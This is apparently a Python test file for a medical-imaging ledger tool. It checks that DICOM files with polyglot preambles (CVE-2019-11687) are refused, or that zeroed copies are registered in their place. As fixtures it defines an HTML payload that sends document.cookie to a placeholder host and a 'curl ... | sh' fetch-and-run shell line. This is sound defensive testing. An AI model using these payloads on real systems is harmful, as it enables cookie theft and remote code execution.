"""Preambles that are neither zeros nor a TIFF header: refused, or registered as zeroed copies.

``register --zero-preamble DIR`` writes a copy of each such file with the 128 preamble bytes
zeroed into DIR and registers the copy; the original is never touched.
"""

from __future__ import annotations

import hashlib
from pathlib import Path

from ..builders import snapshot
from .data import pydicom_file, with_preamble
from .support import RunCli, image_entries, log_size, register_args

HTML = b"<html><body onload=\"location='//example.invalid/'+document.cookie\">"
SHELL = b"\ncurl -s example.invalid/x | sh\n"  # `sh file.dcm` runs it: no #! needed
NOT_TIFF = "non-zero preamble that is not a TIFF header (CVE-2019-11687)"


def test_html_and_shell_preambles_are_refused(
    tmp_path: Path, reg_ledger: Path, run_cli: RunCli
) -> None:
    for name, head in (("page.dcm", HTML), ("script.dcm", SHELL)):
        path = with_preamble(pydicom_file("MR_small.dcm"), tmp_path / name, head)
        before = snapshot(reg_ledger)
        result = run_cli(*register_args(path, json=False), ledger=reg_ledger)
        assert result.rc == 2
        line = result.error_line()
        assert line.startswith(f"medledger: {path}: ") and line.endswith(NOT_TIFF), line
        assert snapshot(reg_ledger) == before


def test_zero_preamble_registers_a_zeroed_copy(
    tmp_path: Path, reg_ledger: Path, cli: RunCli
) -> None:
    folder = tmp_path / "in"
    page = with_preamble(pydicom_file("MR_small.dcm"), folder / "page.dcm", HTML)
    script = with_preamble(pydicom_file("CT_small.dcm"), folder / "script.dcm", SHELL)
    originals = {p: p.read_bytes() for p in (page, script)}
    copies = tmp_path / "zeroed"
    result = cli(*register_args(folder, extra=("--zero-preamble", str(copies))), ledger=reg_ledger)
    assert result.rc == 0, result.stderr
    assert result.json()["registered"] == 2
    assert {p: p.read_bytes() for p in originals} == originals  # originals untouched
    written = sorted(copies.iterdir())
    assert len(written) == 2
    for copy in written:
        data = copy.read_bytes()
        assert data[:128] == bytes(128) and data[128:132] == b"DICM"
        assert copy.name == hashlib.sha256(data).hexdigest() + ".dcm"
    entries = image_entries(cli, reg_ledger)
    assert sorted(e["image"]["file_sha256"] for e in entries) == sorted(
        c.name.removesuffix(".dcm") for c in written
    )
    assert {e["image"]["preamble"] for e in entries} == {"zero"}
    # each copy is the original with only the preamble changed
    assert {hashlib.sha256(d[128:]).hexdigest() for d in originals.values()} == {
        hashlib.sha256(c.read_bytes()[128:]).hexdigest() for c in written
    }
    size = log_size(reg_ledger)
    again = cli(*register_args(folder, extra=("--zero-preamble", str(copies))), ledger=reg_ledger)
    assert again.rc == 0, again.stderr
    assert again.json()["already_known"] == 2 and log_size(reg_ledger) == size


def test_zero_preamble_leaves_good_preambles_alone(
    tmp_path: Path, reg_ledger: Path, cli: RunCli
) -> None:
    copies = tmp_path / "zeroed"
    ct_small = pydicom_file("CT_small.dcm")  # a TIFF header: accepted as it is
    result = cli(*register_args(ct_small, extra=("--zero-preamble", str(copies))),
                 ledger=reg_ledger)  # fmt: skip
    assert result.rc == 0, result.stderr
    [entry] = image_entries(cli, reg_ledger)
    assert entry["image"]["preamble"] == "tiff"
    assert entry["image"]["file_sha256"] == hashlib.sha256(ct_small.read_bytes()).hexdigest()
    assert not copies.exists()


def test_zero_preamble_folder_inside_the_input_is_refused(
    tmp_path: Path, reg_ledger: Path, cli: RunCli
) -> None:
    folder = tmp_path / "in"
    with_preamble(pydicom_file("MR_small.dcm"), folder / "page.dcm", HTML)
    size = log_size(reg_ledger)
    result = cli(*register_args(folder, json=False,
                                extra=("--zero-preamble", str(folder / "zeroed"))),
                 ledger=reg_ledger)  # fmt: skip
    assert result.rc == 2
    assert "is inside" in result.error_line()
    assert log_size(reg_ledger) == size and not (folder / "zeroed").exists()
